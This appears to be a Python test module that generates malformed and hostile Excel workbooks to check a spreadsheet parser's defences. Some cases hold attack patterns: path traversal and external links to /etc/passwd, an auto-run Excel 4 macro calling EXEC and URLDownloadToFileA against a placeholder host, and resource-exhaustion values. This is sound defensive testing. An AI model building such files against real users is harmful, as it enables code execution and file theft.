"""Tricks of archives, of encodings and of relationships: what one program opens and another one does not, or otherwise."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from hostile.cases import case
from hostile.form import MAIN, members, packed, rows
from hostile.pieces import SHEET

BOOK, RELS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def data(name: str, made: Callable[[], bytes], said: str = "") -> None:
    def function(path: Path) -> None:
        path.write_bytes(made())

    case(f"trick: {name}", said)(function)


def _archived(write: Callable[[zipfile.ZipFile], object]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        write(archive)
    return out.getvalue()


def _named(rename: Callable[[str], str]) -> bytes:
    return packed({rename(name): part for name, part in members().items()})


def _with_sizes_of_64_bits(archive: zipfile.ZipFile) -> None:
    for name, part in members().items():
        with archive.open(name, "w", force_zip64=True) as file:
            file.write(part)


class _Pipe(io.BytesIO):
    """What cannot go back: sizes stand behind the members."""

    def seekable(self) -> bool:
        return False

    def tell(self) -> int:
        raise OSError


def _piped() -> bytes:
    out = _Pipe()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in members().items():
            archive.writestr(name, part)
    return out.getvalue()


data("names from the root", lambda: _named("/".__add__), "越界")
data("names by a dot", lambda: _named("./".__add__), ".")
data("names in capitals", lambda: _named(str.upper))
data("names with backslashes", lambda: packed(members()).replace(SHEET.encode(), SHEET.replace("/", "\\").encode()))  # fmt: skip
data("a name with a zero", lambda: packed(members()).replace(b"[Content_Types].xml", b"[Content_Types]\0xml"), "不安全")  # fmt: skip
data("folders of the names of parts", lambda: packed({"xl/": b"", f"{SHEET}/": b"", **members()}))
data("sizes of 64 bits", lambda: _archived(_with_sizes_of_64_bits))
data("sizes behind the members", _piped)
data("packed by LZMA", lambda: _archived(lambda archive: [archive.writestr(name, part, zipfile.ZIP_LZMA) for name, part in members().items()]), "压缩方式")  # fmt: skip
data("a program before it", lambda: b"MZ" + b"x" * 1000 + packed(members()), "损坏")
data("ends behind the end", lambda: packed(members()) + b"PK" * 1000, "损坏")
data("two workbooks in one", lambda: packed(members()) + packed(members(rows(project="另一份"))), "损坏")

for _encoding, _said in {"utf-7": "编码", "gb18030": "编码", "utf-32": "损坏", "utf-16": "", "utf-16-le": "损坏"}.items():  # fmt: skip

    def _coded(encoding: str = _encoding) -> bytes:
        found = members()
        body = re.sub(r"<\?xml[^>]*\?>", "", found[SHEET].decode())
        head = f'<?xml version="1.0" encoding="{encoding.removesuffix("-le")}"?>'
        return packed({**found, SHEET: (head + body).encode(encoding)})

    data(f"a sheet in {_encoding}", _coded, _said)


def _changed(part: str, old: str, new: str, **more: bytes) -> bytes:
    found = {**members(), **more}
    assert old in found[part].decode()
    return packed({**found, part: found[part].decode().replace(old, new).encode()})


data("two sheets of one name", lambda: _changed(BOOK, "</sheets>", '<sheet name="自评表" sheetId="2" r:id="rId1"/></sheets>'), "另一个工作表")  # fmt: skip
data("a sheet outside", lambda: _changed(RELS, 'Target="worksheets/sheet1.xml"', 'Target="http://127.0.0.1:9/s.xml" TargetMode="External"'), ".")  # fmt: skip
data("a workbook outside", lambda: _changed("_rels/.rels", 'Target="xl/workbook.xml"', 'Target="file:///etc/passwd" TargetMode="External"'), ".")  # fmt: skip
data("a sheet that nobody may see", lambda: _changed(BOOK, 'sheetId="1"', 'sheetId="1" state="veryHidden"'))
data("relationships in a circle", lambda: packed({**members(), "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_OFFICE}/drawing" Target="sheet1.xml"/><Relationship Id="r1" Type="{_OFFICE}/comments" Target="../workbook.xml"/><Relationship Id="r3" Type="{_OFFICE}/vmlDrawing" Target="/"/><Relationship Id="r4" Type="{_OFFICE}/table" Target="../../../../../etc/passwd"/></Relationships>'.encode()}))  # fmt: skip


def _with_old_macros() -> bytes:
    found = members()
    found[BOOK] = found[BOOK].replace(b"</sheets>", '<sheet name="宏" sheetId="9" state="veryHidden" r:id="rId9"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">宏!$A$1</definedName></definedNames>'.encode())  # fmt: skip
    found[RELS] = found[RELS].replace(b"</Relationships>", b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>')  # fmt: skip
    found["xl/macrosheets/sheet1.xml"] = f'<xm:macrosheet xmlns="{MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("touch pwned.toml")</f><v>0</v></c></row><row r="2"><c r="A2"><f>JX_TOTAL(CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1:9","x",0,0))</f></c></row></sheetData></xm:macrosheet>'.encode()  # fmt: skip
    return packed(found)


data("a sheet of old macros", _with_old_macros)
for _name, _value in {"of 10,000 digits": "9" * 10_000, "of 10,000 noughts": f"0.{'0' * 10_000}1", "by references": "&#57;&#48;", "as CDATA": "<![CDATA[90]]>", "with a piece of a program": "9<?x y?>0", "without an end": "INF"}.items():  # fmt: skip
    data(f"a number {_name}", lambda value=_value: packed(members(rows(formulas=False).replace("<v>90</v>", f"<v>{value}</v>", 1))))  # type: ignore[misc]  # fmt: skip
data("widths and heights of no number", lambda: packed(members(before='<sheetFormatPr defaultRowHeight="1e308" defaultColWidth="NaN"/><cols><col min="1" max="16384" width="1e308" customWidth="1"/></cols>')))  # fmt: skip
data("a list of choices by a long formula", lambda: packed(members(after='<dataValidations count="1"><dataValidation type="custom" sqref="A1:XFD1048576"><formula1>' + "(" * 9000 + "</formula1></dataValidation></dataValidations>")))  # fmt: skip
data("days since 1904, and no styles", lambda: packed({name: part.replace(b"<sheets>", b'<workbookPr date1904="true"/><sheets>') for name, part in members().items() if "styles" not in name}))  # fmt: skip
